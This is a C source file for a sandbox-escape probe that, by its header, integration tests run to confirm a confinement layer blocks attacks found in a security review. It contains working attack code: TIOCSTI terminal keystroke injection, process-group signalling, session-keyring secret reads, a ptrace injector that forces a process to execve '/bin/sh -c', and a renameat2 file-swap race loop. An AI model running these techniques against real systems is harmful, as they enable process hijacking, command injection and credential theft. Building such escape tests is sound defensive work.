// SPDX-License-Identifier: MIT
/*
 * esc_probe: the attacks of the security review (finding 2, 3, 6) as one static program, run
 * inside a busybox rootfs by tests/integration/security/escapes.sh. Each verb prints one
 * line saying what happened ("ok ..." or the refused call and its errno text).
 *   esc_probe sti-tty TEXT       TIOCSTI TEXT into /dev/tty (the controlling terminal)
 *   esc_probe sti-fd N TEXT      TIOCSTI TEXT into fd N
 *   esc_probe pgkill SIG         kill(0, SIG): the caller's process group
 *   esc_probe keyring NAME       read key NAME ("user") from the session keyring
 *   esc_probe keyhost NAME VAL -- CMD...   (host side) a new session keyring with key
 *                                NAME=VAL, then exec CMD
 *   esc_probe inject PID CMD     ptrace PID and make it execve /bin/sh -c CMD (x86-64)
 *   esc_probe flip A B SECONDS   (host side) exchange A and B (renameat2 RENAME_EXCHANGE)
 *                                as fast as it can, for SECONDS
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int sti(int fd, const char *text)
{
	for (const char *p = text; *p; p++) {
		if (ioctl(fd, TIOCSTI, p) < 0) {
			printf("TIOCSTI: %s\n", strerror(errno));
			return 1;
		}
	}
	printf("ok injected\n");
	return 0;
}

static int keyring(const char *name)
{
	long s = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	if (s < 0) {
		printf("session keyring: %s\n", strerror(errno));
		return 1;
	}
	long k = syscall(SYS_keyctl, KEYCTL_SEARCH, s, "user", name, 0);
	if (k < 0) {
		printf("search %s: %s\n", name, strerror(errno));
		return 1;
	}
	char b[256];
	long m = syscall(SYS_keyctl, KEYCTL_READ, k, b, sizeof(b));
	printf("ok key %s = %.*s\n", name, (int)(m > 0 ? m : 0), b);
	return 0;
}

static int keyhost(const char *name, const char *val, char **cmd)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "esc-probe") < 0 ||
	    syscall(SYS_add_key, "user", name, val, strlen(val), KEY_SPEC_SESSION_KEYRING) < 0) {
		printf("keyring: %s\n", strerror(errno));
		return 1;
	}
	execvp(cmd[0], cmd);
	printf("exec %s: %s\n", cmd[0], strerror(errno));
	return 1;
}

#if defined(__x86_64__)
static int poke(pid_t p, unsigned long addr, const void *buf, size_t n)
{
	for (size_t i = 0; i < n; i += 8) {
		unsigned long w = 0;
		memcpy(&w, (const char *)buf + i, n - i < 8 ? n - i : 8);
		if (ptrace(PTRACE_POKEDATA, p, addr + i, w) < 0)
			return -1;
	}
	return 0;
}

static int inject(pid_t p, const char *cmd)
{
	int st;
	if (ptrace(PTRACE_SEIZE, p, 0, 0) < 0) {
		printf("seize: %s\n", strerror(errno));
		return 1;
	}
	if (ptrace(PTRACE_INTERRUPT, p, 0, 0) < 0 || waitpid(p, &st, __WALL) < 0) {
		printf("interrupt: %s\n", strerror(errno));
		return 1;
	}
	struct user_regs_struct r;
	if (ptrace(PTRACE_GETREGS, p, 0, &r) < 0) {
		printf("getregs: %s\n", strerror(errno));
		return 1;
	}
	unsigned long sc = r.rip - 2;
	errno = 0;
	unsigned long ins = (unsigned long)ptrace(PTRACE_PEEKTEXT, p, sc, 0);
	if (errno || (ins & 0xffff) != 0x050f) {
		printf("no syscall instruction before rip\n");
		return 1;
	}
	unsigned long base = (r.rsp - 8192) & ~15UL;
	char strs[1024] = { 0 };
	size_t o = 0;
	const char *a[3] = { "/bin/sh", "-c", cmd };
	unsigned long ptrs[4] = { 0 };
	for (int i = 0; i < 3 && o + strlen(a[i]) + 1 < sizeof(strs); i++) {
		ptrs[i] = base + 64 + o;
		strcpy(strs + o, a[i]);
		o += strlen(a[i]) + 1;
	}
	if (poke(p, base + 64, strs, (o + 7) & ~7UL) < 0 || poke(p, base, ptrs, sizeof(ptrs)) < 0) {
		printf("poke: %s\n", strerror(errno));
		return 1;
	}
	r.rip = sc;
	r.rax = 59; /* execve */
	r.orig_rax = (unsigned long)-1;
	r.rdi = ptrs[0];
	r.rsi = base;
	r.rdx = 0;
	if (ptrace(PTRACE_SETREGS, p, 0, &r) < 0) {
		printf("setregs: %s\n", strerror(errno));
		return 1;
	}
	ptrace(PTRACE_DETACH, p, 0, 0);
	printf("ok injected into %d\n", (int)p);
	return 0;
}
#else
static int inject(pid_t p, const char *cmd)
{
	(void)p;
	(void)cmd;
	printf("inject: x86-64 only\n");
	return 2;
}
#endif

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	const char *v = argc > 1 ? argv[1] : "";
	if (!strcmp(v, "sti-tty") && argc == 3) {
		int fd = open("/dev/tty", O_RDWR);
		if (fd < 0) {
			printf("/dev/tty: %s\n", strerror(errno));
			return 1;
		}
		return sti(fd, argv[2]);
	}
	if (!strcmp(v, "sti-fd") && argc == 4)
		return sti(atoi(argv[2]), argv[3]);
	if (!strcmp(v, "pgkill") && argc == 3) {
		signal(atoi(argv[2]), SIG_IGN); /* not the probe itself */
		if (kill(0, atoi(argv[2])) < 0) {
			printf("kill: %s\n", strerror(errno));
			return 1;
		}
		printf("ok signalled\n");
		return 0;
	}
	if (!strcmp(v, "keyring") && argc == 3)
		return keyring(argv[2]);
	if (!strcmp(v, "keyhost") && argc >= 6 && !strcmp(argv[4], "--"))
		return keyhost(argv[2], argv[3], argv + 5);
	if (!strcmp(v, "flip") && argc == 5) {
		time_t end = time(NULL) + atoi(argv[4]);
		unsigned long n = 0;
		while (time(NULL) < end) {
			syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2);
			n++;
		}
		printf("ok %lu flips\n", n);
		return 0;
	}
	if (!strcmp(v, "inject") && argc == 4)
		return inject(atoi(argv[2]), argv[3]);
	fprintf(stderr, "usage: esc_probe sti-tty|sti-fd|pgkill|keyring|keyhost|inject ...\n");
	return 2;
}
